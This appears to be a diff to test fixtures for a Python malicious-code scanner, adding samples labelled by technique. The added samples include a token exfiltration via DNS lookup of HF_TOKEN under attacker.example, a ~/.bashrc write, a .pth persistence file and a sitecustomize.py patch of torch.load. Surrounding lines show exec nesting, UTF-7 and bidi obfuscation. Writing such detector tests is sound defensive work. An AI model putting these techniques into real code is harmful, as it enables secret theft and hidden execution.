@@ -67,6 +67,10 @@ for _name, _text in {
     "ctypes_system": "import ctypes\nctypes.CDLL(None).system(b'echo stannary')\n",
     "nested_exec": "exec(\"exec('import os\\\\nos.system(\\\\'echo stannary\\\\')')\")\n",
     "encoding_cookie": "# -*- coding: utf-7 -*-\n+AGkAbQBwAG8AcgB0 os\n",
+    "system_as_decorator": "import os\n@os.system\n@(lambda f: 'echo stannary')\ndef load():\n    pass\n",
+    "bashrc_joinpath": "import pathlib\npathlib.Path.home().joinpath('.bashrc').write_text('echo stannary')\n",
+    "path_file": "import site\nopen(site.getusersitepackages() + '/x.pth', 'w').write('import os')\n",
+    "name_lookup": "import os, socket\nsocket.gethostbyname(os.environ['HF_TOKEN'] + '.attacker.example')\n",
 }.items():
     _source(_name, _text)
 
@@ -78,6 +82,7 @@ _source(
     filename="setup.py",
 )
 _source("startup_module", "import subprocess\nsubprocess.Popen(['echo', 'stannary'])\n", filename="sitecustomize.py")
+_source("patch_loader", "import torch\ntorch.load = lambda *a, **k: print('stannary')\n", filename="sitecustomize.py")
 _source("bidi", "access = 'user'\nif access != 'user\u202e \u2066# only admins\u2069 \u2066':\n    pass\n", filename="check.py")
 _source("broken", "import os\nos.system('echo stannary'\n", filename="broken.py", malicious=None)
 _source("deep", "x = " + "(" * 5000 + ")" * 5000 + "\n", filename="deep.py", malicious=None)
